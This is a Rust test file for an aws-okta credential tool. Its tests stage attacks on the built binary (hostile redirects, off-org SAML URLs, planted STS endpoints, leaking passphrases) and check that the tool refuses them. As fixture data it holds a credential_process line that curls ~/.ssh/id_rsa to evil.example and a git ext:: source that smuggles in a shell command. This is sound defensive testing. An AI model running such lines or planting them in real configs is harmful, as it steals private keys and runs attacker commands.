//! Trust boundaries, played as attacks against the built binary: a config file from a shared
//! repository, a hostile redirect, a curious child process. Each test asserts that the secret
//! never arrives where it does not belong, and the documented message and exit code.
mod common;

use aws_okta::error::exit;
use common::*;
use fake_okta::{Config, DEFAULT_HUB_ROLE};

/// The secrets of a fake-Okta login that must never reach `server`.
fn assert_nothing_arrived(server: &CannedServer, env: &TestEnv) {
    let received = server.received();
    assert_eq!(server.count(), 0, "the foreign server got: {received}");
    for secret in env.okta.state().issued_secrets() {
        assert!(!received.contains(&secret), "leaked {secret}");
    }
    assert!(!received.contains(PASSWORD));
}

fn hub_config(saml_url: &str) -> String {
    format!("[okta]\naws_saml_url = {saml_url}\n\n[profile hub]\nrole_arn = {DEFAULT_HUB_ROLE}\nregion = us-east-1\n")
}

#[test]
fn an_aws_saml_url_on_another_host_gets_no_session_token() {
    let env = TestEnv::new(Config::default());
    env.add();
    let evil = CannedServer::start(200, "text/html", "<html></html>");
    env.write_config(&hub_config(&format!(
        "{}/home/amazon_aws/0oa1/272",
        evil.url
    )));
    let out = env.run(&["cred-process", "hub"]);
    assert_exit(&out, exit::CONFIG, "aws_saml_url");
    assert!(
        stderr(&out).contains("not to your Okta org"),
        "{}",
        stderr(&out)
    );
    assert_nothing_arrived(&evil, &env);
    assert_eq!(
        env.okta.counters().authn,
        0,
        "checked before the password is sent"
    );
}

#[test]
fn backslash_and_scheme_tricks_in_aws_saml_url_are_config_errors() {
    let env = TestEnv::new(Config::default());
    env.add();
    for evil in [
        "\\\\evil.example/x",
        "/\\evil.example/x",
        "file:///etc/passwd",
    ] {
        env.write_config(&hub_config(evil));
        let out = env.run(&["cred-process", "hub"]);
        assert_exit(&out, exit::CONFIG, "aws_saml_url");
        let out = env.run(&["config", "validate"]);
        assert_exit(&out, exit::CONFIG, "aws_saml_url");
    }
    assert_eq!(env.okta.counters().total, 0);
}

#[test]
fn login_never_opens_an_aws_saml_url_off_the_org() {
    let env = TestEnv::new(Config::default());
    env.add();
    let evil = CannedServer::start(200, "text/html", "<html></html>");
    env.write_config(&hub_config(&format!(
        "{}/home/amazon_aws/0oa1/272",
        evil.url
    )));
    let out = env.run(&["login", "hub", "--stdout"]);
    assert_exit(&out, exit::CONFIG, "aws_saml_url");
    assert!(!stdout(&out).contains(&evil.url), "{}", stdout(&out));
}

#[test]
fn a_redirect_to_another_host_gets_no_cookie_and_is_not_followed() {
    let evil = CannedServer::start(200, "text/html", "<html></html>");
    let env = TestEnv::new(Config {
        app_redirect: Some(format!("{}/collect", evil.url)),
        ..Config::default()
    });
    env.add();
    let out = env.run(&["cred-process", "hub"]);
    assert_exit(&out, exit::OKTA_API, "outside the Okta org");
    assert_nothing_arrived(&evil, &env);
}

#[test]
fn exec_gives_the_command_aws_credentials_and_no_aws_okta_secret() {
    let env = TestEnv::new(Config::default());
    env.add();
    for server in [false, true] {
        let mut args = vec!["exec", "hub"];
        if server {
            args.push("--server");
        }
        args.extend(["--", "env"]);
        let out = env.run(&args);
        assert!(out.status.success(), "{}", stderr(&out));
        let printed = stdout(&out);
        let expected = if server {
            "AWS_CONTAINER_AUTHORIZATION_TOKEN="
        } else {
            "AWS_SECRET_ACCESS_KEY="
        };
        assert!(printed.contains(expected), "{printed}");
        assert!(!printed.contains("AWS_OKTA_FILE_PASSPHRASE"), "{printed}");
        assert!(!printed.contains("test file passphrase"), "{printed}");
    }
}

/// The test environment without the passphrase variable.
fn without_passphrase_env(env: &TestEnv, args: &[&str]) -> std::process::Command {
    let mut cmd = env.cmd(args);
    cmd.env_remove("AWS_OKTA_FILE_PASSPHRASE");
    cmd
}

#[test]
fn the_file_backend_takes_its_passphrase_from_a_file_or_a_command() {
    let env = TestEnv::new(Config::default());
    env.add();
    let file = env.home().join("passphrase");
    std::fs::write(&file, "test file passphrase\n").unwrap();

    let out = without_passphrase_env(&env, &["cred-process", "hub", "--no-cache"])
        .env("AWS_OKTA_FILE_PASSPHRASE_FILE", &file)
        .output()
        .unwrap();
    cred_process_json(&out);

    let out = without_passphrase_env(&env, &["cred-process", "hub", "--no-cache"])
        .env(
            "AWS_OKTA_FILE_PASSPHRASE_COMMAND",
            "printf '%s\\n' 'test file passphrase'",
        )
        .output()
        .unwrap();
    cred_process_json(&out);

    let out = without_passphrase_env(&env, &["cred-process", "hub", "--no-cache"])
        .env("AWS_OKTA_FILE_PASSPHRASE_COMMAND", "printf 'wrong\\n'")
        .output()
        .unwrap();
    assert_exit(&out, exit::KEYCHAIN, "wrong passphrase");

    let out = without_passphrase_env(&env, &["cred-process", "hub", "--no-cache"])
        .env("AWS_OKTA_FILE_PASSPHRASE_COMMAND", "true")
        .output()
        .unwrap();
    assert_exit(&out, exit::KEYCHAIN, "empty");
}

#[cfg(unix)]
#[test]
fn a_passphrase_file_descriptor_is_read_and_closed_before_the_command_runs() {
    let env = TestEnv::new(Config::default());
    env.add();
    let file = env.home().join("passphrase");
    std::fs::write(&file, "test file passphrase\n").unwrap();
    // The shell opens fd 3 on the passphrase and hands it to aws-okta; the command run by
    // exec then tries to read fd 3.
    let script = format!(
        "exec 3<'{}'; exec \"$0\" exec hub -- sh -c 'cat <&3 && echo READ-FD3; echo done'",
        file.display()
    );
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(&script)
        .arg(env!("CARGO_BIN_EXE_aws-okta"))
        .envs(
            env.cmd(&[])
                .get_envs()
                .filter_map(|(k, v)| Some((k.to_owned(), v?.to_owned())))
                .filter(|(k, _)| k != "AWS_OKTA_FILE_PASSPHRASE"),
        )
        .env("AWS_OKTA_FILE_PASSPHRASE_FILE", "/dev/fd/3")
        .output()
        .unwrap();
    let printed = stdout(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(printed.contains("done"), "{printed}");
    assert!(!printed.contains("READ-FD3"), "{printed}");
    assert!(!printed.contains("test file passphrase"), "{printed}");
}

#[test]
fn sts_endpoints_in_a_config_file_never_get_the_saml_assertion() {
    let env = TestEnv::new(Config::default());
    env.add();
    let evil = sts_error_server(403, "AccessDenied", "collected");
    // A team file's endpoints, global and service-specific, for the profile AWS SDKs read
    // by default. With no endpoint in the user's environment, STS is AWS's own (unreachable
    // from the test machine: the run fails, but the assertion never reaches `evil`).
    env.write_config(&format!(
        "{}\n[default]\nservices = team\nendpoint_url = {evil}\n\n[services team]\nsts =\n  endpoint_url = {evil}\n",
        hub_config(fake_okta::DEFAULT_SAML_PATH),
        evil = evil.url
    ));
    let out = env
        .cmd(&["cred-process", "hub"])
        .env_remove("AWS_ENDPOINT_URL_STS")
        .output()
        .unwrap();
    assert_eq!(evil.count(), 0, "{}", evil.received());
    assert_ne!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        env.okta.counters().saml_issued,
        1,
        "the login itself happened"
    );

    // The user's own environment still decides.
    let out = env
        .cmd(&["cred-process", "hub"])
        .env_remove("AWS_ENDPOINT_URL_STS")
        .env("AWS_ENDPOINT_URL", &env.sts_url)
        .output()
        .unwrap();
    cred_process_json(&out);
    assert_eq!(evil.count(), 0, "{}", evil.received());
}

#[test]
fn a_remote_plain_http_sts_endpoint_is_refused() {
    let env = TestEnv::new(Config::default());
    env.add();
    let out = env
        .cmd(&["cred-process", "hub"])
        .env("AWS_ENDPOINT_URL_STS", "http://sts.example.com")
        .output()
        .unwrap();
    assert_exit(&out, exit::CONFIG, "AWS_ENDPOINT_URL_STS");
}

/// A team-config checkout whose team file also runs a program for every AWS SDK call.
fn hostile_team_repo(dir: &std::path::Path) -> std::path::PathBuf {
    let repo = dir.join("team-repo");
    std::fs::create_dir_all(repo.join("teams")).unwrap();
    std::fs::write(
        repo.join("teams/ops.config"),
        format!(
            "[okta]\naws_saml_url = {}\n\n[profile ops-hub]\nrole_arn = {DEFAULT_HUB_ROLE}\n\n\
             [profile default]\ncredential_process = /bin/sh -c 'curl -d @$HOME/.ssh/id_rsa evil.example'\n",
            fake_okta::DEFAULT_SAML_PATH
        ),
    )
    .unwrap();
    repo
}

#[test]
fn config_init_refuses_a_team_file_that_would_run_a_program() {
    let env = TestEnv::new(Config::default());
    let repo = hostile_team_repo(env.home());
    let before = std::fs::read(env.config_path()).unwrap();
    let source = repo.to_str().unwrap();

    let out = env.run(&["config", "init", "--team", "ops", "--source", source]);
    assert_exit(&out, exit::CONFIG, "credential_process");
    assert!(
        stderr(&out).contains("--allow-executable-keys"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("ops.config:8"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(env.config_path()).unwrap(),
        before,
        "nothing written"
    );

    // The dry run names the key in its diff and on stderr, and writes nothing.
    let out = env.run(&[
        "config",
        "init",
        "--team",
        "ops",
        "--source",
        source,
        "--dry-run",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("+credential_process"),
        "{}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains("credential_process"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read(env.config_path()).unwrap(), before);

    // The user who reviewed it may install it.
    let out = env.run(&[
        "config",
        "init",
        "--team",
        "ops",
        "--source",
        source,
        "--allow-executable-keys",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(std::fs::read_to_string(env.config_path())
        .unwrap()
        .contains("credential_process = /bin/sh"));
}

#[test]
fn config_init_refuses_transports_that_run_commands() {
    let env = TestEnv::new(Config::default());
    let marker = env.home().join("pwned");
    let source = format!("ext::sh -c touch% {}% #.git", marker.display());
    let out = env.run(&["config", "init", "--team", "ops", "--source", &source]);
    assert_eq!(code(&out), exit::CONFIG, "{}", stderr(&out));
    assert!(!marker.exists(), "git ran the ext:: command");
}
